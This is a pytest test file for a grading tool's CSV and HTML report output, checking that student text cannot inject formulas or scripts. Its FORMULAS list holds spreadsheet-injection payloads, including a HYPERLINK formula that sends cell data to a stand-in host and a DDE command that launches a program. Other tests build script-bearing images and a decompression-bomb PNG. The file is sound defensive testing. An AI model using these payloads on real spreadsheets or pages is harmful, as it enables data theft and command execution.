"""What a teacher and a learner get to see of grading, whatever a submission holds."""

import base64
import csv
import io
import re
import struct
import zlib
from dataclasses import replace

import pandas
import pytest
from hostile import HOSTILE
from PIL import Image
from results import POINTS, SLUG, cell, open_question, png, question, real, result

from course.language import LANGUAGES, Phrase, words
from grading import sanitize
from grading.deliver import page, report
from grading.deliver.pictures import picture
from grading.result import QuestionResult

FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", '=HYPERLINK("http://evil.test/"&A1,"x")', "=cmd|'/C calc'!A0",
            "\t=1+1", " =1+1", "\r=1+1", "\n=1+1", "\r\n\t =1+1", "\x00=1+1", "\x0b=1+1", "\xa0=1+1", "\u3000=1+1",
            "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "\ud800=1",
            "a;=1+1", "a,=1+1", "a\t=1+1", 'a"=1+1', '","=1+1', "a|=1+1", "a\n=1+1", "x; ＝1+1"]  # fmt: skip


def written(folder, results, lang="en", points=POINTS):
    report.write(results, folder, lang, points)
    return folder


def rows(folder):
    content = (folder / "grades.csv").read_bytes()
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def hostile_result(text):
    """A result in which every text that a submission can influence is this one."""
    said = Phrase("check.raised", {"error": text})
    asked = [QuestionResult("probability", 1, 0, "raised", None, said, said, text)]
    cells = [cell(text, kind, "probability", text, [text, png()]) for kind in ("code", "markdown", "raw")]
    return result(text, "en", asked, cells, id="hostile")


# ---- the table


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_row_for_each_student_and_a_column_for_each_exercise(tmp_path, lang):
    results = [real("张三", "zh", probability="unclipped"), real('李, "四"', "en", draw_spikes="at_most")]
    results[1] = replace(results[1], id="b", student="b")
    table = rows(written(tmp_path, results, lang))
    assert table[0][6:11] == [f"{SLUG}/{name}" for name in POINTS[SLUG]]
    assert table[1:] == [
        ["张三", "张三", "张三.ipynb", "zh", "7", "11", "0", "2", "3", "2", "", "3", ""],
        ["b", '李, "四"', '李, "四".ipynb', "en", "6", "11", "1", "0", "3", "2", "", "3", ""],
    ]


def test_the_table_is_what_excel_and_pandas_read(tmp_path):
    marked = real("张三", "zh")
    marked = replace(marked, questions=(*marked.questions[:-1], open_question(2.5)))
    path = written(tmp_path, [marked]) / "grades.csv"
    content = path.read_bytes()
    assert content.startswith(b"\xef\xbb\xbfid,")
    assert content.count(b"\n") == content.count(b"\r\n") == 2
    table = pandas.read_csv(path)
    assert table["name"].tolist() == ["张三"]
    assert table["total"].tolist() == [10.5]
    assert table[f"{SLUG}/decode_rate"].dtype == "int64"


def test_several_assignments_stand_side_by_side(tmp_path):
    other = QuestionResult("slow", 2, 2, "right")
    points = POINTS | {"03-latency-exercises": {"slow": 2}}
    one, two = real("ann", "en"), result("ann", "en", [other], assignment="03-latency-exercises", id="ann-03")
    two = replace(two, student="ann")
    again = replace(real("ann", "en", probability="unclipped"), id="ann-again")
    only = replace(two, id="bob", name="bob", student="bob")
    table = rows(written(tmp_path, [one, two, again, only], points=points))
    assert [(row[0], row[4], row[5], row[6], row[11]) for row in table[1:]] == [
        ("ann", "10", "13", "1", "2"),
        ("ann-again", "7", "11", "0", ""),
        ("bob", "2", "2", "", "2"),
    ]


def test_what_is_unsafe_or_not_graded_says_so(tmp_path):
    results = [result("a", unsafe=True), result("b", assignment=None, language=None, problem="bad_zip", notes=["late"])]
    table = rows(written(tmp_path, results))
    assert table[1][-1] == "UNSAFE: graded without the sandbox"
    said = words("en").get("grade", {})
    assert table[2][4:] == ["0", "", *[""] * 5, "0", f"{said.get('bad_zip', 'bad_zip')} {said.get('late', 'late')}"]


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))  # a name of such signs is hard to call
def test_no_formula_runs(tmp_path, text):
    """Not in this table, nor in one split at other separators, as Excel does it elsewhere."""
    folder = written(tmp_path, [result(text, id="x", language="en", notes=[text], problem=text)])
    content = (folder / "grades.csv").read_text("utf-8-sig")
    assert len(rows(folder)) == 2
    assert rows(folder)[1][1].endswith(text[-1])
    for separator in (",", ";", "\t", "|"):
        for part in re.split(f"[{separator}\r\n]", content.replace('"', "")):
            assert not re.match(r"[\s\u200b\u202e\ufeff]*[=+@＝＋－＠-]", part)


def test_numbers_and_plain_text_stay_as_they_are():
    for text in ("2024-05-01", "a-b", "Anne-Marie", "x = 3", "张三", "", "C++", "me@there"):
        assert sanitize.cell(text) == text


# ---- feedback


@pytest.fixture
def opened(browser, tmp_path):
    """Open a page in a browser; whatever it asks for beside itself, and whatever it complains of, is noted."""
    context = browser.new_context(viewport={"width": 390, "height": 800})
    tab = context.new_page()
    tab.asked, tab.refused, tab.said = [], [], []
    tab.on("request", lambda request: request.url.startswith("data:") or tab.asked.append(request.url))
    tab.on("requestfailed", lambda request: tab.refused.append((request.url, request.failure)))
    tab.on("dialog", lambda dialog: tab.said.append(dialog.message))
    tab.on("console", lambda message: tab.said.append(message.text))
    tab.on("pageerror", lambda error: tab.said.append(str(error)))

    def open_page(path):
        tab.goto(path.as_uri())
        tab.mouse.move(100, 300)
        tab.wait_for_timeout(50)
        return tab

    yield open_page
    context.close()


ALIVE = "script, iframe, object, embed, form, button, input, link, base, math, template, textarea, [style], svg image"
HANDLERS = "[...document.querySelectorAll('*')].flatMap(e => e.getAttributeNames()).filter(name => /^on/.test(name))"
LINKS = "[...document.querySelectorAll('[href]')].map(e => e.getAttribute('href'))"


def assert_dead(tab, path):
    assert tab.asked == [path.as_uri()]
    assert tab.said == []
    assert tab.evaluate("window.ran ?? window[0]") is None
    assert tab.locator(ALIVE).count() == 0
    assert tab.evaluate(HANDLERS) == []
    assert tab.locator("meta[http-equiv]").count() == 1
    assert tab.locator("style").count() == 1
    assert all(re.match(r"#exercise-\d+$|feedback/[\w%-]+\.html$", link) for link in tab.evaluate(LINKS))


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_of_a_submission_comes_alive(tmp_path, opened, text):
    path = written(tmp_path, [hostile_result(text)]) / "feedback/hostile.html"
    tab = opened(path)
    assert_dead(tab, path)
    assert tab.locator(".score").inner_text() == "0 of 1 points"
    assert tab.locator(".mark").is_visible()
    assert tab.locator(".cell").count() == 3
    assert tab.locator("img").count() == 3  # the true pictures; the false ones are left out, and it says so
    assert tab.evaluate("[...document.images].every(one => one.complete && one.naturalWidth > 0)")
    shown = tab.locator(".cell").first.inner_text()
    assert all(line.strip() in shown for line in sanitize.text(text).split("\n"))


@pytest.mark.parametrize("name", ["class.html", "feedback/failed.html", "feedback/hostile.html"])
def test_nor_of_all_of_them_together(tmp_path, opened, name):
    everything = "\n\n".join(HOSTILE)
    failed = result(everything, id="failed", problem=everything, notes=HOSTILE)
    path = written(tmp_path, [hostile_result(everything), failed]) / name
    tab = opened(path)
    assert_dead(tab, path)
    assert "window.ran = 1" in tab.locator("body").inner_text()


def test_the_policy_itself_would_stop_them(tmp_path, opened):
    """Should anything ever get past the escaping. (It cannot stop the fifth, which leads away.)"""
    path = tmp_path / "page.html"
    path.write_text(page.page("x", "en", "".join(HOSTILE[:5] + HOSTILE[6:10])), "utf-8", "replace")
    tab = opened(path)
    assert tab.evaluate("window.ran ?? null") is None
    assert {why for _, why in tab.refused} == {"csp"}
    assert set(tab.asked) - {address for address, _ in tab.refused} == {path.as_uri()}
    assert tab.evaluate("getComputedStyle(document.body).display") == "block"
    assert any("Content Security Policy" in message for message in tab.said)


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_learner_reads_what_was_wrong_and_why(tmp_path, opened, lang):
    report.write([real("学生", lang, draw_spikes="at_most", decode_rate="summed")], tmp_path, "en", POINTS)
    tab = opened(tmp_path / "feedback/学生.html")
    assert tab.locator("html").get_attribute("lang").startswith(lang)
    assert [row.inner_text().split("\t")[:2] for row in tab.locator("tbody tr").all()] == [
        ["probability", "1 / 1"], ["draw_spikes", "0 / 2"], ["decode_rate", "0 / 3"], ["steps_needed", "2 / 2"],
        ["open", "– / 3"],
    ]  # fmt: skip
    box = tab.locator(".mark", has_text="draw_spikes")
    table = words(lang)["exercise_draw_spikes"]
    assert box.locator(".said").all_inner_texts() == [table["at_most"], table["at_most_hint"]]
    assert box.locator("img").get_attribute("alt") == words(lang)["report"]["compared"]
    before = box.locator("xpath=preceding-sibling::div[1]").inner_text()
    assert "check.draw_spikes(draw_spikes)" in before
    summary = tab.locator("summary").first
    summary.click()  # the course's own hints unfold
    assert tab.locator("details p").first.is_visible()
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390


def test_a_submission_that_was_not_graded_hears_why_and_what_to_do(tmp_path):
    report.write([result("a", language=None, assignment=None, problem="bad_zip")], tmp_path, "en", POINTS)
    content = (tmp_path / "feedback/a.html").read_text("utf-8")
    table = words("en")["report"]
    assert table["not_graded"] in content
    assert table["hand_in_again"] in content
    assert sanitize.line(words("en").get("grade", {}).get("bad_zip", "bad_zip")) in content
    assert 'class="score"' not in content


def test_a_mark_without_a_cell_is_still_shown(tmp_path):
    lost = replace(question("probability", lambda *_: None, "en"), kind="missing")
    report.write([result("a", "en", [lost, open_question()], [cell("1 + 1")])], tmp_path, "en", POINTS)
    content = (tmp_path / "feedback/a.html").read_text("utf-8")
    assert content.index("<pre>") < content.index('<section class="mark wrong" id="exercise-1">')


def test_markdown_keeps_what_is_harmless():
    shown = page.markdown("**bold** [web](https://a.org) [there](../x.ipynb) <b>\n\n| a |\n|---|\n| $a_1 < b_2$ |")
    assert "<strong>bold</strong>" in shown
    assert '<a href="https://a.org" rel="noopener noreferrer nofollow">web</a>' in shown
    assert "<a>there</a> &lt;b&gt;" in shown
    assert '<td><span class="math inline">a_1 &lt; b_2</span></td>' in shown


def test_what_is_too_long_is_cut_and_says_so():
    assert sanitize.markdown("x" * 10_000) == "x" * 10_000
    assert sanitize.markdown("x" * 10_001) == "x" * 10_000 + " …"
    assert sanitize.name("abc", size=3) == "abc"
    assert sanitize.cell("x" * 1000) == "x" * 1000
    assert sanitize.cell("x" * 1001) == "x" * 1000 + "…"


def test_markdown_starts_no_tag_and_no_entity():
    assert sanitize.markdown("<B> <b> </B> <!-- <?php a<b") == "< B> < b> < /B> < !-- < ?php a< b"
    assert sanitize.markdown("&amp; &#60; a & b") == "& amp; & #60; a & b"


def _chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def _bomb():
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", zlib.compress(b"\0" * 10_000)) + _chunk(b"IEND", b"")


def test_a_picture_is_drawn_anew_or_left_out():
    honest = base64.b64decode(png())
    carrier = honest + b"<script>window.ran = 1</script>"
    shown = picture(base64.b64encode(carrier).decode(), '"x')
    inside = base64.b64decode(re.fullmatch('<img src="data:image/png;base64,(.*)" alt="&quot;x">', shown)[1])
    assert b"script" not in inside
    assert Image.open(io.BytesIO(inside)).tobytes() == Image.open(io.BytesIO(honest)).convert("RGBA").tobytes()
    jpeg, gif = io.BytesIO(), io.BytesIO()
    Image.new("RGB", (2, 2)).save(jpeg, "JPEG")
    assert picture(base64.b64encode(jpeg.getvalue()).decode(), "x").startswith('<img src="data:image/jpeg;base64,')
    Image.new("RGB", (2, 2)).save(gif, "GIF")
    for broken in (honest[:200], gif.getvalue(), _bomb(), b"<svg onload=x>", b""):
        assert picture(base64.b64encode(broken).decode(), "x") is None
    for broken in ("é", "A" * 5_000_000, '"><script>'):
        assert picture(broken, "x") is None


def test_a_notebook_made_to_be_slow_is_shown_plainly(tmp_path):
    slow = "|a" * 60 + "\n" + "|-" * 60 + "\n" + "|\n" * 4_000
    cells = [cell(slow, "markdown") for _ in range(400)] + [cell("1", pictures=[png()] * 300)]
    report.write([result("a", "en", [], cells)], tmp_path, "en", POINTS)
    content = (tmp_path / "feedback/a.html").read_text("utf-8")
    assert "<th>a<" not in content
    assert content.count("<img") == 40
    assert words("en")["report"]["left_out"] in content


# ---- the class


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_class_page_counts_misconceptions(tmp_path, opened, lang):
    names = [f"Name{place}" for place in range(6)]
    wrong = [{}, {"probability": "unclipped"}, {"probability": "unclipped"}, {"probability": "inverted"}, {}, {}]
    results = [real(name, "en", **one) for name, one in zip(names, wrong, strict=True)]
    empty = question("probability", lambda *_: None, "en")
    results[5] = replace(results[5], questions=(empty, *results[5].questions[1:]))
    results.append(result("Broken", assignment=None, problem="bad_zip"))
    report.write(results, tmp_path, lang, POINTS)
    tab = opened(tmp_path / "class.html")
    assert_dead(tab, tmp_path / "class.html")
    shares = [row.inner_text().split("\t") for row in tab.locator("table").first.locator("tr").all()]
    table, said = words(lang)["report"], words(lang)["exercise_probability"]
    assert [(row[0], row[-1]) for row in shares] == [
        (sentence, table["share"].format(count=count, of=6))
        for sentence, count in [(table["kind_right"], 2), (said["unclipped"], 2), (table["kind_empty"], 1),
                                (said["inverted"], 1)]
    ]  # fmt: skip
    assert tab.locator("svg[role=img]").get_attribute("aria-label").endswith("5: 0, 6: 0, 7: 4, 8: 2")
    statistics = tab.locator("body").inner_text().split(table["troubled"])[0]
    assert not [name for name in (*names, "Broken") if name in statistics]
    assert tab.locator(f"h2:has-text('{table['troubled']}') + table").inner_text().startswith("Broken")
    assert tab.locator(".names li").count() == 6
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390


def test_a_sentence_with_a_learners_numbers_is_told_without_them(monkeypatch):
    monkeypatch.setitem(words("en"), "exercise_few", {"many": "That makes {share} % of {all}."})
    from grading.deliver.words import misconception

    assert misconception("few", "many", "en") == "That makes … % of …."


def test_many_points_share_bars(tmp_path):
    points = {SLUG: {"big": 100}}
    scores = (0, 9, 10, 55.5, 100)
    asked = [QuestionResult("big", 100, score, "wrong") for score in scores]
    report.write([result(f"s{n}", "en", [one]) for n, one in enumerate(asked)], tmp_path, "en", points)
    label = re.search('aria-label="([^"]*)"', (tmp_path / "class.html").read_text("utf-8"))[1]
    assert label.endswith("0–9: 2, 10–19: 1, 20–29: 0, 30–39: 0, 40–49: 0, 50–59: 1, 60–69: 0, 70–79: 0, 80–89: 0, "
                          "90–99: 0, 100: 1")  # fmt: skip


# ---- all of it


def test_only_what_changed_is_written_again(tmp_path):
    results = [real("a", "en"), real("b", "zh")]
    written(tmp_path, results)
    before = {path: (path.stat().st_ino, path.read_bytes()) for path in tmp_path.rglob("*.*")}
    written(tmp_path, results)
    assert {path: (path.stat().st_ino, path.read_bytes()) for path in tmp_path.rglob("*.*")} == before
    results[1] = real("b", "zh", probability="inverted")
    written(tmp_path, results)
    changed = {path.name for path, (_, content) in before.items() if path.read_bytes() != content}
    assert changed == {"b.html", "class.html", "grades.csv"}
    assert set(before) == set(tmp_path.rglob("*.*"))  # nothing half written is left


@pytest.mark.parametrize("name", ["", ".", "..", "../x", "a/b", "/x", "a\\b", ".hidden"])
def test_an_id_is_a_file_name(tmp_path, name):
    with pytest.raises(ValueError, match="id must be a plain file name"):
        written(tmp_path, [result(id=name)])


def test_nothing_is_left_out_silently(tmp_path):
    with pytest.raises(ValueError, match="two results have the same id"):
        written(tmp_path, [result("a"), result("a")])
    with pytest.raises(ValueError, match="99-unknown"):
        written(tmp_path, [result("a", assignment="99-unknown")])


def test_an_empty_run_has_its_pages(tmp_path):
    written(tmp_path, [])
    assert len(rows(tmp_path)) == 1
    assert "0" in (tmp_path / "class.html").read_text("utf-8")


@pytest.mark.parametrize("shown", [sanitize.markdown, page.markdown])
def test_a_pasted_picture_does_not_hide_the_text_around_it(shown):
    pasted = f"The proof: ![sketch](data:image/png;base64,{'QUJD' * 50_000}) so *p* is small."
    text = shown(pasted)
    assert "QUJD" not in text
    assert len(text) < 200
    assert "sketch" in text
    assert "is small." in text
